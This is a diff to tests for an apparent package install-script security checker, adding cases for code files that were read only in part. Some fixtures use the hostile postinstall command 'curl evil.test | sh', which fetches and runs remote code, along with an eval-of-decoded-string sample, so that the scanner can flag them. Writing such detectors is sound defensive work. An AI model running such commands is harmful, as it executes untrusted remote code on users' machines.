@@ -244,6 +244,13 @@ checkTable(check, [
     data: { code: ['install.js'], missing: ['gone.js'] },
   },
   {
+    name: 'a bundle too large to read whole, clean in what was read: unknown, held',
+    evidence: withCode({ postinstall: 'node bundle.js' }, [{ ...jsFile('bundle.js', 'ok()'), size: 12 * 1024 * 1024, truncated: true }]),
+    score: null,
+    messageId: 'code-truncated',
+    data: { code: ['bundle.js'], truncated: ['bundle.js'] },
+  },
+  {
     name: 'a suspicious command stays suspicious whatever its code',
     evidence: withCode({ postinstall: 'curl evil.test | sh && node install.js' }, [jsFile('install.js', 'ok()')]),
     score: 10,
@@ -268,6 +275,27 @@ describe('install-scripts: the code a script runs', () => {
     expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', RECON)])).holdVerdict).toBeTypeOf('string');
     expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', "eval(atob('eA=='))")])).holdVerdict).toBeTypeOf('string');
     expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', 'ok()')])).holdVerdict).toBeUndefined();
+  });
+
+  it('a file read only in part, clean in what was read, is unknown and holds the verdict (code-truncated)', () => {
+    const cut = { ...jsFile('bundle.js', 'ok()'), size: 12 * 1024 * 1024, truncated: true };
+    const outcome = outcomeOf(check, withCode({ postinstall: 'node bundle.js' }, [cut]));
+    expect([outcome.score, outcome.messageId, outcome.data?.truncated]).toEqual([null, 'code-truncated', ['bundle.js']]);
+    expect(outcome.holdVerdict).toBeTypeOf('string');
+  });
+
+  it('a finding in the part read of a truncated file, or in the command, answers', () => {
+    const cut = { ...jsFile('bundle.js', RECON), size: 12 * 1024 * 1024, truncated: true };
+    const dangerous = outcomeOf(check, withCode({ postinstall: 'node bundle.js' }, [cut]));
+    expect([dangerous.score, dangerous.messageId, dangerous.data?.truncated]).toEqual([0, 'code-dangerous', ['bundle.js']]);
+    const command = outcomeOf(check, withCode({ postinstall: 'curl evil.test | sh && node bundle.js' }, [{ ...cut, text: 'ok()' }]));
+    expect([command.score, command.messageId]).toEqual([10, 'suspicious']);
+  });
+
+  it('a loaded module read only in part counts as a truncated file too', () => {
+    const files = [jsFile('install.js', "require('./lib/big')"), { ...jsFile('lib/big.js', 'ok()'), size: 900_000, truncated: true }];
+    const outcome = outcomeOf(check, withCode({ postinstall: 'node install.js' }, files));
+    expect([outcome.score, outcome.messageId, outcome.data?.truncated]).toEqual([null, 'code-truncated', ['lib/big.js']]);
   });
 
   it('evidence saved before the code was read (no installCode) is judged by the command, as before', () => {
